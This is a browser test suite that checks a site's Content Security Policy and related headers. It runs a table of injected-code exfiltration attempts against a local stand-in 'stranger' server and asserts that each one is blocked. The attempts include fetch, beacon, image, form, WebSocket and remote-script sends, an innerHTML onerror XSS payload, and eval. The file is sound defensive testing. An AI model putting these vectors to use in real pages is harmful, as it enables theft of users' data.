/** The promise: nothing leaves. Whatever code got into the page, the policy would stop it. */
import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";

import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";

import { DOCUMENT_POLICY, headersFor, META_POLICY } from "../../web/build/policy.mjs";
import { DIST } from "./support/site.js";
import { openSample } from "./support/steps.js";
import { visit } from "./support/visit.js";

/** Hears whatever is sent to it. */
const heard: string[] = [];
const stranger = createServer((request, response) => {
  heard.push(`${request.method ?? ""} ${request.url ?? ""}`);
  response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("x");
});
stranger.on("upgrade", (request, socket) => {
  heard.push(`upgrade ${request.url ?? ""}`);
  socket.destroy();
});

beforeAll(() => new Promise<void>((done) => stranger.listen(0, "127.0.0.1", done)));
afterAll(() => new Promise<void>((done) => void stranger.close(() => done())));

function strangerUrl(): string {
  return `http://localhost:${(stranger.address() as AddressInfo).port}/`;
}

/** Each runs in the page, as injected code would. */
const ATTEMPTS: Record<string, (url: string) => unknown> = {
  fetch: (url) => fetch(url),
  "fetch without an answer": (url) => fetch(url, { method: "POST", mode: "no-cors", body: "holdings" }),
  "fetch to the site itself": () => fetch("./"),
  XMLHttpRequest: (url) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.send();
  },
  beacon: (url) => navigator.sendBeacon(url, "holdings"),
  WebSocket: (url) => new WebSocket(url.replace("http", "ws")),
  EventSource: (url) => new EventSource(url),
  image: (url) => {
    new Image().src = `${url}?holdings`;
  },
  "data: image": () => {
    new Image().src = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
  },
  frame: (url) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    document.body.append(frame);
  },
  form: (url) => {
    const form = document.createElement("form");
    form.action = url;
    document.body.append(form);
    form.submit();
  },
  base: (url) => {
    const base = document.createElement("base");
    base.href = url;
    document.head.append(base);
  },
  "inline style": (url) => {
    const style = document.createElement("style");
    style.textContent = `body { background: url(${url}) }`;
    document.head.append(style);
  },
  "style sheet": (url) => {
    const link = document.createElement("link");
    link.rel = "stylesheet";
    link.href = url;
    document.head.append(link);
  },
  font: (url) => new FontFace("x", `url(${url})`).load(),
  "script from elsewhere": (url) => {
    const script = document.createElement("script");
    script.src = url;
    document.body.append(script);
  },
  "text of a script": () => {
    const script = document.createElement("script");
    script.textContent = "document.body.dataset.ran = 'yes'";
    document.body.append(script);
  },
  "inner HTML": () => {
    document.body.innerHTML = "<img src=x onerror='document.body.dataset.ran = 1'>";
  },
  eval: () => {
    // Later, because the debugger that runs this here lifts the ban on eval for as long as it does.
    setTimeout(() => void (0, eval)("document.body.dataset.ran = 'yes'"));
  },
  "worker of another address": () => new Worker("sw.js"),
  "policy of one's own": () => {
    const host = globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } };
    host.trustedTypes.createPolicy("mine", {});
  },
  "WebAssembly in the page": () => new WebAssembly.Module(Uint8Array.from([0, 97, 115, 109, 1, 0, 0, 0])),
};

describe("the page's policy", () => {
  it("comes with every file as the header file says", async () => {
    const paths = ["", ...readdirSync(DIST, { recursive: true, encoding: "utf8" })].filter(
      (path) => !/^_headers$|^[a-z]+$/.test(path),
    );
    expect(paths.length).toBeGreaterThan(8);
    for (const path of paths) {
      const answer = await fetch(new URL(path, inject("siteUrl")));
      expect(answer.status, path).toBe(200);
      for (const [name, value] of Object.entries(headersFor(`/${path}`))) {
        expect(answer.headers.get(name), `${name} of /${path}`).toBe(value);
      }
    }
  });

  it("denies only what the browser knows: of other names it would complain on everybody's console", async () => {
    const { page, end } = await visit();
    const known = await page.evaluate(() =>
      (document as unknown as { featurePolicy: { features(): string[] } }).featurePolicy.features(),
    );
    const named = (headersFor("/")["Permissions-Policy"] ?? "").split(", ").map((part) => part.split("=")[0]);
    expect(named.length).toBeGreaterThan(20);
    expect(named.filter((name) => !known.includes(name ?? ""))).toEqual([]);
    await end();
  });

  it("stands in the page itself too, for hosts that send no headers", () => {
    const page = readFileSync(join(DIST, "index.html"), "utf8");
    const meta = /<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page);
    expect(meta?.[1]?.replaceAll("&#39;", "'")).toBe(META_POLICY);
    expect(DOCUMENT_POLICY.split("; ").filter((part) => !META_POLICY.split("; ").includes(part))).toEqual([
      "frame-ancestors 'none'",
    ]);
    expect(page).not.toMatch(/<style|<script(?![^>]*src=)|\son\w+=|style=/);
  });

  it.each(Object.entries(ATTEMPTS))("stops: %s", async (_, attempt) => {
    heard.length = 0;
    const { page, context, findings } = await visit();
    await page.getByTestId("door-sample").waitFor();
    await page.evaluate(attempt, strangerUrl()).catch(() => undefined);
    await expect
      .poll(() => findings.join("\n"), { timeout: 5000 })
      .toMatch(/policy violation|Content Security Policy|Trusted/);
    await page.waitForTimeout(100);
    expect(heard).toEqual([]);
    expect(await page.evaluate(() => document.body.dataset["ran"])).toBeUndefined();
    expect(new URL(page.url()).origin).not.toBe(new URL(strangerUrl()).origin);
    await context.close();
  });

  it("gives the engine's thread no way out either", async () => {
    heard.length = 0;
    const { page, context } = await visit();
    await openSample(page);
    await expect.poll(() => page.workers().length).toBe(1);
    const outcome = await page.workers()[0]?.evaluate(
      (url) =>
        fetch(url, { mode: "no-cors" }).then(
          () => "sent",
          () => "stopped",
        ),
      strangerUrl(),
    );
    expect(outcome).toBe("stopped");
    expect(heard).toEqual([]);
    await context.close();
  });

  it("the watch of these tests would see a request to a stranger", async () => {
    heard.length = 0;
    const { page, context, findings } = await visit();
    await page.getByTestId("door-sample").waitFor();
    // What no policy can stop: going there oneself. The tests would still notice.
    await page.goto(strangerUrl());
    expect(heard.length).toBeGreaterThan(0);
    expect(findings.some((finding) => finding.startsWith("request to a stranger"))).toBe(true);
    await context.close();
  });
});
